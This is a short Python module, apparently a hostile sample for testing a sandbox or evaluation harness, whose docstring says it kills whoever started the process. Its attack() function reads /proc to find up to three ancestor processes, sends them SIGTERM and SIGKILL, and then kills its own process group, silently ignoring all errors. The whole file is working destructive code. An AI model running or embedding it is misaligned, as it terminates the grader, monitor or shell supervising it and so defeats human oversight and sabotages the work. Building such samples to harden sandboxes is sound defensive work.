"""Kill whoever started this process, and their group."""

import contextlib
import os
import signal
from pathlib import Path

CLASS = "killing or reading the parent"


def parents(most=3):
    pid = os.getpid()
    for _ in range(most):
        with contextlib.suppress(OSError, ValueError, IndexError):
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
            if pid > 1:
                yield pid


def attack(name, /, *args, **kwargs):
    victims = dict.fromkeys([os.getppid(), *parents()])
    for victim in (pid for pid in victims if pid > 1):
        for number in (signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(victim, number)
    with contextlib.suppress(OSError):
        os.killpg(0, signal.SIGKILL)
    return None
